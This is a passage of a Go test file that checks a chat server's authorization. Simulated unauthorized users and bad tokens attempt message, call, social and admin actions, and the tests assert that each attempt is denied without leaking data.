		{name: "revoke in a missing group", as: "mallory", typ: protocol.ReqRevokeMessage, data: protocol.MessageRefReq{ConversationID: sgGhost, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "revoke in a group as kicked member", as: "carl", typ: protocol.ReqRevokeMessage, data: protocol.MessageRefReq{ConversationID: sg, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "revoke the owner's group message as plain member", as: "bob", typ: protocol.ReqRevokeMessage, data: protocol.MessageRefReq{ConversationID: sg, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied},
		{name: "edit in others' one-to-one", as: "mallory", typ: protocol.ReqEditMessage, data: protocol.EditMessageReq{ConversationID: w.dm, ClientMsgID: "dm1", Text: "x"}, want: protocol.CodePermissionDenied},
		{name: "edit the peer's message", as: "bob", typ: protocol.ReqEditMessage, data: protocol.EditMessageReq{ConversationID: w.dm, ClientMsgID: "dm1", Text: "x"}, want: protocol.CodePermissionDenied},
		{name: "edit in a group as non-member", as: "mallory", typ: protocol.ReqEditMessage, data: protocol.EditMessageReq{ConversationID: sg, ClientMsgID: "g1", Text: "x"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "edit in a missing group", as: "mallory", typ: protocol.ReqEditMessage, data: protocol.EditMessageReq{ConversationID: sgGhost, ClientMsgID: "g1", Text: "x"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "edit in a group as kicked member", as: "carl", typ: protocol.ReqEditMessage, data: protocol.EditMessageReq{ConversationID: sg, ClientMsgID: "g1", Text: "x"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "edit another member's group message", as: "bob", typ: protocol.ReqEditMessage, data: protocol.EditMessageReq{ConversationID: sg, ClientMsgID: "g1", Text: "x"}, want: protocol.CodePermissionDenied},
		{name: "pull changes of others' one-to-one", as: "mallory", typ: protocol.ReqPullChanges, data: protocol.PullChangesReq{ConversationID: w.dm}, want: protocol.CodePermissionDenied},
		{name: "pull changes of a group as non-member", as: "mallory", typ: protocol.ReqPullChanges, data: protocol.PullChangesReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pull changes of a missing group", as: "mallory", typ: protocol.ReqPullChanges, data: protocol.PullChangesReq{ConversationID: sgGhost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pull changes of a group as kicked member", as: "carl", typ: protocol.ReqPullChanges, data: protocol.PullChangesReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},

		{name: "clear others' one-to-one", as: "mallory", typ: protocol.ReqClearConversation, data: protocol.ConversationIDReq{ConversationID: w.dm}, want: protocol.CodePermissionDenied},
		{name: "clear a group as non-member", as: "mallory", typ: protocol.ReqClearConversation, data: protocol.ConversationIDReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "clear a missing group", as: "mallory", typ: protocol.ReqClearConversation, data: protocol.ConversationIDReq{ConversationID: sgGhost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "clear a group as kicked member", as: "carl", typ: protocol.ReqClearConversation, data: protocol.ConversationIDReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},

		{name: "delete in others' one-to-one", as: "mallory", typ: protocol.ReqDeleteMessage, data: protocol.MessageRefReq{ConversationID: w.dm, ClientMsgID: "dm1"}, want: protocol.CodePermissionDenied},
		{name: "delete in a group as non-member", as: "mallory", typ: protocol.ReqDeleteMessage, data: protocol.MessageRefReq{ConversationID: sg, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "delete in a missing group", as: "mallory", typ: protocol.ReqDeleteMessage, data: protocol.MessageRefReq{ConversationID: sgGhost, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "delete in a group as kicked member", as: "carl", typ: protocol.ReqDeleteMessage, data: protocol.MessageRefReq{ConversationID: sg, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pull deletions of others' one-to-one", as: "mallory", typ: protocol.ReqPullDeletions, data: protocol.PullDeletionsReq{ConversationID: w.dm}, want: protocol.CodePermissionDenied},
		{name: "pull deletions of a group as non-member", as: "mallory", typ: protocol.ReqPullDeletions, data: protocol.PullDeletionsReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pull deletions of a missing group", as: "mallory", typ: protocol.ReqPullDeletions, data: protocol.PullDeletionsReq{ConversationID: sgGhost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pull deletions of a group as kicked member", as: "carl", typ: protocol.ReqPullDeletions, data: protocol.PullDeletionsReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},

		{name: "pin in others' one-to-one", as: "mallory", typ: protocol.ReqPinMessage, data: protocol.PinMessageReq{ConversationID: w.dm, ClientMsgID: "dm1", IsPinned: true}, want: protocol.CodePermissionDenied},
		{name: "pin in a group as non-member", as: "mallory", typ: protocol.ReqPinMessage, data: protocol.PinMessageReq{ConversationID: sg, ClientMsgID: "g1", IsPinned: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pin in a missing group", as: "mallory", typ: protocol.ReqPinMessage, data: protocol.PinMessageReq{ConversationID: sgGhost, ClientMsgID: "g1", IsPinned: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pin in a group as kicked member", as: "carl", typ: protocol.ReqPinMessage, data: protocol.PinMessageReq{ConversationID: sg, ClientMsgID: "g1", IsPinned: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "react in others' one-to-one", as: "mallory", typ: protocol.ReqAddReaction, data: protocol.ReactionReq{ConversationID: w.dm, ClientMsgID: "dm1", Emoji: "👍"}, want: protocol.CodePermissionDenied},
		{name: "react in a group as non-member", as: "mallory", typ: protocol.ReqAddReaction, data: protocol.ReactionReq{ConversationID: sg, ClientMsgID: "g1", Emoji: "👍"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "react in a missing group", as: "mallory", typ: protocol.ReqAddReaction, data: protocol.ReactionReq{ConversationID: sgGhost, ClientMsgID: "g1", Emoji: "👍"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "react in a group as kicked member", as: "carl", typ: protocol.ReqAddReaction, data: protocol.ReactionReq{ConversationID: sg, ClientMsgID: "g1", Emoji: "👍"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "unreact in others' one-to-one", as: "mallory", typ: protocol.ReqRemoveReaction, data: protocol.ReactionReq{ConversationID: w.dm, ClientMsgID: "dm1", Emoji: "👍"}, want: protocol.CodePermissionDenied},
		{name: "unreact in a group as kicked member", as: "carl", typ: protocol.ReqRemoveReaction, data: protocol.ReactionReq{ConversationID: sg, ClientMsgID: "g1", Emoji: "👍"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "read counts of a group as non-member", as: "mallory", typ: protocol.ReqReadCounts, data: protocol.ReadCountsReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "read counts of a missing group", as: "mallory", typ: protocol.ReqReadCounts, data: protocol.ReadCountsReq{ConversationID: sgGhost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "read counts of a group as kicked member", as: "carl", typ: protocol.ReqReadCounts, data: protocol.ReadCountsReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "read counts of others' one-to-one", as: "mallory", typ: protocol.ReqReadCounts, data: protocol.ReadCountsReq{ConversationID: w.dm}, want: protocol.CodePermissionDenied},
		{name: "read info of a group as non-member", as: "mallory", typ: protocol.ReqReadInfo, data: protocol.MessageRefReq{ConversationID: sg, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "read info of a group as kicked member", as: "carl", typ: protocol.ReqReadInfo, data: protocol.MessageRefReq{ConversationID: sg, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "read info of another member's message", as: "bob", typ: protocol.ReqReadInfo, data: protocol.MessageRefReq{ConversationID: sg, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied},
		{name: "pinned messages of others' one-to-one", as: "mallory", typ: protocol.ReqPinnedMessages, data: protocol.ConversationIDReq{ConversationID: w.dm}, want: protocol.CodePermissionDenied},
		{name: "pinned messages of a group as non-member", as: "mallory", typ: protocol.ReqPinnedMessages, data: protocol.ConversationIDReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pinned messages of a missing group", as: "mallory", typ: protocol.ReqPinnedMessages, data: protocol.ConversationIDReq{ConversationID: sgGhost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "pinned messages of a group as kicked member", as: "carl", typ: protocol.ReqPinnedMessages, data: protocol.ConversationIDReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},

		{name: "typing in others' one-to-one", as: "mallory", typ: protocol.ReqSetTyping, data: protocol.TypingReq{ConversationID: w.dm, Typing: true}, want: protocol.CodePermissionDenied},
		{name: "typing in a group as non-member", as: "mallory", typ: protocol.ReqSetTyping, data: protocol.TypingReq{ConversationID: sg, Typing: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "typing in a missing group", as: "mallory", typ: protocol.ReqSetTyping, data: protocol.TypingReq{ConversationID: sgGhost, Typing: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "typing in a group as kicked member", as: "carl", typ: protocol.ReqSetTyping, data: protocol.TypingReq{ConversationID: sg, Typing: true}, want: protocol.CodePermissionDenied, groupy: true},

		{name: "mute others' one-to-one", as: "mallory", typ: protocol.ReqSetMuted, data: protocol.SetMutedReq{ConversationID: w.dm, IsMuted: true}, want: protocol.CodePermissionDenied},
		{name: "mute a group as non-member", as: "mallory", typ: protocol.ReqSetMuted, data: protocol.SetMutedReq{ConversationID: sg, IsMuted: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "mute a missing group", as: "mallory", typ: protocol.ReqSetMuted, data: protocol.SetMutedReq{ConversationID: sgGhost, IsMuted: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "mute a group as kicked member", as: "carl", typ: protocol.ReqSetMuted, data: protocol.SetMutedReq{ConversationID: sg, IsMuted: true}, want: protocol.CodePermissionDenied, groupy: true},

		{name: "hide others' one-to-one", as: "mallory", typ: protocol.ReqHideConversation, data: protocol.ConversationIDReq{ConversationID: w.dm}, want: protocol.CodePermissionDenied},
		{name: "hide a group as non-member", as: "mallory", typ: protocol.ReqHideConversation, data: protocol.ConversationIDReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "hide a missing group", as: "mallory", typ: protocol.ReqHideConversation, data: protocol.ConversationIDReq{ConversationID: sgGhost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "hide a group as kicked member", as: "carl", typ: protocol.ReqHideConversation, data: protocol.ConversationIDReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "delete others' one-to-one", as: "mallory", typ: protocol.ReqDeleteConversation, data: protocol.ConversationIDReq{ConversationID: w.dm}, want: protocol.CodePermissionDenied},
		{name: "delete a group as non-member", as: "mallory", typ: protocol.ReqDeleteConversation, data: protocol.ConversationIDReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "delete a missing group", as: "mallory", typ: protocol.ReqDeleteConversation, data: protocol.ConversationIDReq{ConversationID: sgGhost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "delete a group as kicked member", as: "carl", typ: protocol.ReqDeleteConversation, data: protocol.ConversationIDReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},

		{name: "user.block blocks for the caller only", as: "mallory", typ: protocol.ReqBlockUser, data: protocol.UserIDReq{UserID: "bob"}},
		{name: "user.changed lists only related profiles", as: "mallory", typ: protocol.ReqChangedProfiles, data: protocol.ChangedProfilesReq{}, check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
			var r protocol.ChangedProfilesResp
			if err := json.Unmarshal(d, &r); err != nil {
				t.Fatal(err)
			}
			for _, u := range r.Users {
				if u.UserID != "mallory" {
					t.Errorf("mallory sees a stranger's profile change: %s", d)
				}
			}
		}},
		{name: "user.changed with a bad cursor", as: "mallory", typ: protocol.ReqChangedProfiles, data: protocol.ChangedProfilesReq{Cursor: -1}, want: protocol.CodeInvalidArgument},
		{name: "user.search shows public profiles only", as: "mallory", typ: protocol.ReqSearchUsers, data: protocol.SearchUsersReq{Keyword: "al"}, check: profileOnly},
		{name: "user.socialVersion is the caller's", as: "mallory", typ: protocol.ReqSocialVersion},
		{name: "user.socialChanges are the caller's", as: "mallory", typ: protocol.ReqSocialChanges, data: protocol.SocialChangesReq{}, check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
			var r protocol.SocialChangesResp
			if err := json.Unmarshal(d, &r); err != nil || slices.ContainsFunc(r.Black, func(u protocol.User) bool { return u.UserID == "dave" }) || slices.Contains(r.RemovedBlack, "dave") {
				t.Errorf("mallory sees alice's social changes: %s", d)
			}
		}},
		{name: "user.socialChanges with a bad version", as: "mallory", typ: protocol.ReqSocialChanges, data: protocol.SocialChangesReq{Since: -1}, want: protocol.CodeInvalidArgument},
		{name: "user.blockList is the caller's", as: "mallory", typ: protocol.ReqListBlocked, check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
			var r protocol.UsersResp
			if err := json.Unmarshal(d, &r); err != nil || slices.ContainsFunc(r.Users, func(u protocol.User) bool { return u.UserID == "dave" }) {
				t.Errorf("mallory sees alice's block list: %s", d)
			}
		}},
		{name: "user.unblock of someone else's block", as: "dave", typ: protocol.ReqUnblockUser, data: protocol.UserIDReq{UserID: "alice"}},

		{name: "auth.refreshToken with another user's token", as: "mallory", typ: protocol.ReqRefreshToken, data: protocol.RefreshTokenReq{Token: w.tokens["alice"]}, want: protocol.CodePermissionDenied},
		{name: "auth.refreshToken with an expired token", as: "mallory", typ: protocol.ReqRefreshToken, data: protocol.RefreshTokenReq{Token: w.expired}, want: protocol.CodeTokenExpired},
		{name: "auth.refreshToken with a revoked token", as: "mallory", typ: protocol.ReqRefreshToken, data: protocol.RefreshTokenReq{Token: w.revoked}, want: protocol.CodeTokenExpired},
		// Calls: only a conversation's members start one, only its
		// participants act on it.
		{name: "call.start in others' one-to-one", as: "mallory", typ: protocol.ReqCallStart, data: protocol.CallStartReq{ConversationID: w.dm, Media: protocol.CallAudio}, want: protocol.CodePermissionDenied},
		{name: "call.start in a group as non-member", as: "mallory", typ: protocol.ReqCallStart, data: protocol.CallStartReq{ConversationID: sg, Media: protocol.CallAudio, InviteeUserIDs: []string{"alice"}}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "call.start in a missing group", as: "mallory", typ: protocol.ReqCallStart, data: protocol.CallStartReq{ConversationID: sgGhost, Media: protocol.CallAudio, InviteeUserIDs: []string{"alice"}}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "call.start in a group as kicked member", as: "carl", typ: protocol.ReqCallStart, data: protocol.CallStartReq{ConversationID: sg, Media: protocol.CallAudio, InviteeUserIDs: []string{"alice"}}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "call.start as blocked user", as: "dave", typ: protocol.ReqCallStart, data: protocol.CallStartReq{ConversationID: protocol.SingleConversationID("alice", "dave"), Media: protocol.CallAudio}, want: protocol.CodePermissionDenied},
		{name: "call.accept of others' call", as: "mallory", typ: protocol.ReqCallAccept, data: protocol.CallIDReq{CallID: w.call}, want: protocol.CodePermissionDenied},
		{name: "call.reject of others' call", as: "mallory", typ: protocol.ReqCallReject, data: protocol.CallIDReq{CallID: w.call}, want: protocol.CodePermissionDenied},
		{name: "call.cancel of others' call", as: "mallory", typ: protocol.ReqCallCancel, data: protocol.CallIDReq{CallID: w.call}, want: protocol.CodePermissionDenied},
		{name: "call.cancel by the invitee", as: "bob", typ: protocol.ReqCallCancel, data: protocol.CallIDReq{CallID: w.call}, want: protocol.CodePermissionDenied},
		{name: "call.hangUp of others' call", as: "mallory", typ: protocol.ReqCallHangUp, data: protocol.CallIDReq{CallID: w.call}, want: protocol.CodePermissionDenied},
		{name: "call.signal into others' call", as: "mallory", typ: protocol.ReqCallSignal, data: protocol.CallSignalReq{CallID: w.call, ToUserID: "bob", Signal: json.RawMessage(`{}`)}, want: protocol.CodePermissionDenied},
		{name: "call.signal before the answer", as: "alice", typ: protocol.ReqCallSignal, data: protocol.CallSignalReq{CallID: w.call, ToUserID: "bob", Signal: json.RawMessage(`{}`)}, want: protocol.CodeInvalidArgument},
		{name: "call.get of others' call", as: "mallory", typ: protocol.ReqCallGet, data: protocol.CallIDReq{CallID: w.call}, want: protocol.CodePermissionDenied},
		{name: "user.subscribeStatus of a user who blocks the caller answers offline", as: "dave", typ: protocol.ReqSubscribeStatus, data: protocol.GetUsersReq{UserIDs: []string{"alice"}}, check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
			var r protocol.UserStatusesResp
			if err := json.Unmarshal(d, &r); err != nil || len(r.Statuses) != 1 || r.Statuses[0].Online {
				t.Errorf("dave sees the status of alice, who blocks him: %s", d)
			}
		}},
		{name: "user.subscribeStatus of a user the caller may message", as: "mallory", typ: protocol.ReqSubscribeStatus, data: protocol.GetUsersReq{UserIDs: []string{"alice"}}, check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
			var r protocol.UserStatusesResp
			if err := json.Unmarshal(d, &r); err != nil || len(r.Statuses) != 1 || !r.Statuses[0].Online {
				t.Errorf("mallory does not see alice online: %s", d)
			}
		}},
		{name: "user.unsubscribeStatus ends the connection's own", as: "mallory", typ: protocol.ReqUnsubscribeStatus, data: protocol.GetUsersReq{UserIDs: []string{"alice"}}},
		{name: "call.config is anyone's", as: "mallory", typ: protocol.ReqCallConfig, data: protocol.CallIDReq{}},
	}

	// Every request type the server answers has a row.
	covered := map[string]bool{}
	for _, c := range cases {
		covered[c.typ] = true
	}
	for _, typ := range e.srv.RequestTypes() {
		if !covered[typ] {
			t.Errorf("request type %q has no row in the matrix", typ)
		}
	}

	// Tokens that are not (or no longer) valid never get a connection, for
	// any request type.
	bad := []struct {
		name, token string
		code        protocol.Code
	}{
		{"no token", "", protocol.CodeUnauthenticated},
		{"garbage token", "p1.e30.AAAA", protocol.CodeUnauthenticated},
		{"expired token", w.expired, protocol.CodeTokenExpired},
		{"revoked token", w.revoked, protocol.CodeTokenExpired},
		{"admin secret as a user token", adminSecret, protocol.CodeUnauthenticated},
	}
	for _, typ := range e.srv.RequestTypes() {
		for _, b := range bad {
			_, resp, err := e.tryDial(b.token, nil)
			if err == nil || resp == nil || resp.StatusCode != http.StatusUnauthorized {
				st := 0
				if resp != nil {
					st = resp.StatusCode
				}
				t.Errorf("%s, %s: dial err %v, status %d", typ, b.name, err, st)
				continue
			}
			var eb protocol.ErrorBody
			json.NewDecoder(resp.Body).Decode(&eb)
			resp.Body.Close()
			if eb.Error.Code != b.code {
				t.Errorf("%s, %s: code %q, want %q", typ, b.name, eb.Error.Code, b.code)
			}
		}
	}

	conns := map[string]*client{}
	conn := func(user string) *client {
		if conns[user] == nil {
			conns[user] = e.dial(w.tokens[user])
		}
		return conns[user]
	}
	// The error messages of a group the caller is not in must be the same
	// whether the group exists or not.
	groupMsgs := map[string]string{}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := conn(c.as).call(c.typ, c.data)
			frame, _ := json.Marshal(f)
			forbidden := w.forbidden
			if c.groupy {
				forbidden = w.forbiddenForGroups
			}
			if c.want != "" {
				if f.Error == nil {
					t.Fatalf("want %q, got %s", c.want, f.Data)
				}
				if f.Error.Code != c.want {
					t.Fatalf("code %q (%s), want %q", f.Error.Code, f.Error.Message, c.want)
				}
				noneOf(t, "error", frame, forbidden)
				if c.groupy {
					if prev, ok := groupMsgs[c.typ]; ok && prev != f.Error.Message {
						t.Errorf("%s: message %q differs from %q: tells groups apart", c.typ, f.Error.Message, prev)
					}
					groupMsgs[c.typ] = f.Error.Message
				}
				return
			}
			if f.Error != nil {
				t.Fatalf("unexpected error %v", f.Error)
			}
			noneOf(t, "answer", frame, slices.DeleteFunc(slices.Clone(w.forbidden), func(f string) bool { return slices.Contains(c.mayRead, f) }))
			if c.check != nil {
				c.check(t, w, f.Data)
			}
		})
	}

	// The attacks changed nothing of alice's: her conversation with bob and
	// the group are intact, carl is gone, dave still blocked.
	alice := conn("alice")
	var pr protocol.PullResp
	alice.do(protocol.ReqPull, protocol.PullReq{Ranges: []protocol.SeqRange{{ConversationID: w.dm, FromSeq: 1}, {ConversationID: sg, FromSeq: 1}}}, &pr)
	if len(pr.Messages) != 4 { // with the notification of carl's removal
		t.Fatalf("alice's messages: %+v", pr.Messages)
	}
	for _, m := range pr.Messages {
		if m.Version != 0 || (m.ContentType != protocol.ContentText && m.ContentType != protocol.ContentNotification) {
			t.Errorf("an attack changed a message: %+v", m)
		}
	}
	var cs protocol.ConversationState
	alice.do(protocol.ReqSetDraft, protocol.SetDraftReq{ConversationID: w.dm, DraftText: ""}, &cs)
	if cs.IsPinned {
		t.Error("mallory pinned alice's conversation")
	}
	var ms protocol.GroupMembersResp
	alice.do(protocol.ReqGetGroupMembers, protocol.GroupIDReq{GroupID: w.group}, &ms)
	if len(ms.Members) != 2 {
		t.Errorf("members after the attacks: %+v", ms.Members)
	}
	var me protocol.User
	alice.do(protocol.ReqGetSelf, nil, &me)
	if me.Nickname != "alice" {
		t.Errorf("alice's nickname is %q", me.Nickname)
	}
	// The forged sender was ignored: bob sees mallory's message as hers.
	var forged protocol.PullResp
	conn("bob").do(protocol.ReqPull, protocol.PullReq{Ranges: []protocol.SeqRange{{ConversationID: protocol.SingleConversationID("bob", "mallory"), FromSeq: 1}}}, &forged)
	for _, m := range forged.Messages {
		if m.SendID != "mallory" {
			t.Errorf("stored with sender %q: %+v", m.SendID, m)
		}
	}
	if len(forged.Messages) != 2 { // "forged", and mallory's own "dm1"
		t.Errorf("bob and mallory's messages: %+v", forged.Messages)
	}
	conn("dave").wantError(protocol.ReqSend, sendTo("alice", ""), protocol.CodePermissionDenied)
	// Unblocking lets dave through again.
	alice.do(protocol.ReqUnblockUser, protocol.UserIDReq{UserID: "dave"}, nil)
	conn("dave").sendText("d1", "alice", "", "hello again")
}

// wantSeqs checks that a pull answer holds the messages at seqs, the last
// one (if any) a notification of kind.
func wantSeqs(t *testing.T, data json.RawMessage, seqs []int64, kind string) {
	t.Helper()
	var pr protocol.PullResp
	if err := json.Unmarshal(data, &pr); err != nil {
		t.Fatal(err)
	}
	got := []int64{}
	for _, m := range pr.Messages {
		got = append(got, m.Seq)
	}
	if !slices.Equal(got, append([]int64{}, seqs...)) {
		t.Fatalf("seqs %v, want %v: %s", got, seqs, data)
	}
	if len(pr.Messages) == 0 {
		return
	}
	last := pr.Messages[len(pr.Messages)-1]
	var n protocol.NotificationContent
	if last.ContentType != protocol.ContentNotification || json.Unmarshal(last.Content, &n) != nil || n.Kind != kind {
		t.Errorf("the last message is not the %s notification: %+v", kind, last)
	}
}

func TestAuthorizationMatrixHTTP(t *testing.T) {
	w := newAuthzWorld(t)
	e := w.e
	valid := w.tokens["mallory"]
	type cred struct {
		name, bearer string
	}
	none, garbage := cred{"no token", ""}, cred{"garbage", "p1.e30.AAAA"}
	expired, revoked := cred{"expired", w.expired}, cred{"revoked", w.revoked}
	userTok := cred{"a user's token", valid}
	bodies := map[string]any{
		"POST /api/v1/auth/register":               protocol.RegisterReq{Username: "newbie", Password: "long enough"},
		"POST /api/v1/auth/login":                  protocol.LoginReq{Username: "nobody", Password: "wrong password"},
		"POST /api/v1/auth/logout":                 nil,
		"POST /api/v1/auth/revoke-all":             nil,
		"POST /api/v1/auth/refresh":                nil,
		"POST /api/v1/admin/users":                 protocol.AdminCreateUserReq{UserID: "intruder"},
		"POST /api/v1/admin/tokens":                protocol.AdminTokenReq{UserID: "alice"},
		"POST /api/v1/admin/groups":                server.AdminCreateGroupReq{OwnerUserID: "mallory", Name: "x", MemberUserIDs: []string{"alice"}},
		"POST /api/v1/admin/friends":               server.AdminFriendsReq{UserID: "mallory", FriendUserID: "alice"},
		"POST /api/v1/admin/users/update":          server.AdminUpdateUserReq{UserID: "alice", Nickname: ptr("pwned")},
		"POST /api/v1/admin/users/revoke":          server.AdminUserIDReq{UserID: "alice"},
		"POST /api/v1/admin/users/disable":         server.AdminDisableUserReq{UserID: "alice", Disabled: true},
		"POST /api/v1/admin/messages":              server.AdminSendReq{SendID: "alice", SendReq: protocol.SendReq{RecvID: "bob", ContentType: protocol.ContentText, Content: json.RawMessage(`{"text":"forged"}`)}},
		"POST /api/v1/admin/messages/revoke":       server.AdminRevokeMessageReq{ConversationID: "si_alice_bob", ClientMsgID: "alice-1"},
		"POST /api/v1/admin/groups/update":         server.AdminUpdateGroupReq{SetGroupInfoReq: protocol.SetGroupInfoReq{GroupID: w.group, Name: ptr("pwned")}},
		"POST /api/v1/admin/groups/members/add":    server.AdminGroupMembersReq{GroupID: w.group, UserIDs: []string{"mallory"}},
		"POST /api/v1/admin/groups/members/remove": server.AdminGroupMembersReq{GroupID: w.group, UserIDs: []string{"bob"}},
		"POST /api/v1/admin/groups/ban":            server.AdminGroupBanReq{GroupID: w.group, UserID: "bob", Banned: true},
		// GETs take no body; their query asks for everything.
		"GET /api/v1/admin/users":         nil,
		"GET /api/v1/admin/conversations": nil,
		"GET /api/v1/admin/messages":      nil,
	}
	type row struct {
		route  string
		cred   cred
		status int
		code   protocol.Code
	}
	var rows []row
	for _, route := range e.srv.APIRoutes() {
		if isMediaRoute(route) {
			continue // TestAuthorizationMatrixMedia
		}
		if _, ok := bodies[route]; !ok {
			t.Errorf("route %q has no row in the matrix", route)
		}
		switch {
		case strings.Contains(route, "/admin/"):
			for _, c := range []cred{none, garbage, expired, revoked, userTok} {
				rows = append(rows, row{route, c, 401, protocol.CodeUnauthenticated})
			}
		case strings.HasSuffix(route, "/logout"), strings.HasSuffix(route, "/revoke-all"), strings.HasSuffix(route, "/refresh"):
			rows = append(rows,
				row{route, none, 401, protocol.CodeUnauthenticated},
				row{route, garbage, 401, protocol.CodeUnauthenticated},
				row{route, expired, 401, protocol.CodeTokenExpired},
				row{route, revoked, 401, protocol.CodeTokenExpired},
				row{route, cred{"the admin secret", adminSecret}, 401, protocol.CodeUnauthenticated})
		case strings.HasSuffix(route, "/login"):
			// Public; a wrong password says nothing about the account.
			rows = append(rows, row{route, none, 401, protocol.CodeUnauthenticated})
		case strings.HasSuffix(route, "/register"):
			rows = append(rows, row{route, none, 201, ""})
		}
	}
	for _, r := range rows {
		t.Run(r.route+" with "+r.cred.name, func(t *testing.T) {
			method, path, _ := strings.Cut(r.route, " ")
			var st int
			var body []byte
			switch method {
			case http.MethodPost:
				st, body = e.post(path, r.cred.bearer, bodies[r.route])
			case http.MethodGet:
				hdr := http.Header{}
				if r.cred.bearer != "" {
					hdr.Set("Authorization", "Bearer "+r.cred.bearer)
				}
				st, body = e.get(path, hdr)
			default:
				t.Fatalf("unexpected method %s", method)
			}
			if st != r.status {
				t.Fatalf("status %d, want %d: %s", st, r.status, body)
			}
			if r.code != "" {
				if c := errCode(t, body); c != r.code {
					t.Fatalf("code %q, want %q", c, r.code)
				}
			}
			noneOf(t, "answer", body, w.forbiddenForGroups)
			if strings.Contains(string(body), "p1.") && r.status != 201 {
				t.Errorf("answer carries a token: %s", body)
			}
		})
	}
	// Bodies that are not declared JSON are refused whoever sends them:
	// a cross-site form can post text/plain with the victim's cookies or
	// from the victim's network.
	for _, route := range e.srv.APIRoutes() {
		if bodies[route] == nil {
			continue
		}
		t.Run(route+" as text/plain", func(t *testing.T) {
			_, path, _ := strings.Cut(route, " ")
			b, _ := json.Marshal(bodies[route])
			req, _ := http.NewRequest(http.MethodPost, e.hs.URL+path, strings.NewReader(string(b)))
			req.Header.Set("Content-Type", "text/plain")
			if strings.Contains(route, "/admin/") {
				req.Header.Set("Authorization", "Bearer "+adminSecret)
			}
			st, body := do(t, req)
			wantHTTPError(t, st, body, http.StatusUnsupportedMediaType, protocol.CodeInvalidArgument)
		})
	}
	// Nothing an attacker tried took effect.
	if st, _ := e.post("/api/v1/auth/login", "", protocol.LoginReq{Username: "newbie", Password: "long enough"}); st != http.StatusOK {
		t.Errorf("newbie's registration (the one allowed) did not take: %d", st)
	}
	if st, _ := e.post("/api/v1/admin/tokens", adminSecret, protocol.AdminTokenReq{UserID: "intruder"}); st != http.StatusNotFound {
		t.Errorf("intruder was created: %d", st)
	}
	c := e.dial(valid)
	var gs protocol.GroupsResp
	c.do(protocol.ReqListGroups, nil, &gs)
	if len(gs.Groups) != 0 {
		t.Errorf("mallory's groups: %+v", gs.Groups)
	}
	// A connection outlives neither logout nor revoke-all of its token.
	st, _ := e.post("/api/v1/auth/revoke-all", valid, nil)
	if st != http.StatusNoContent {
		t.Fatalf("revoke-all: %d", st)
	}
	if k := decode[protocol.Kicked](t, c.push(protocol.PushKicked)); k.Reason != "token_revoked" {
		t.Fatalf("kicked %+v", k)
	}
	c.waitClosed()

	// The public endpoints leak nothing either.
	for _, p := range []string{"/healthz", "/metrics", "/api/v1/nope", protocol.WSPath, server.OpenAPIPath} {
		_, body := e.get(p, nil)
		noneOf(t, p, body, w.forbiddenForGroups)
	}
}
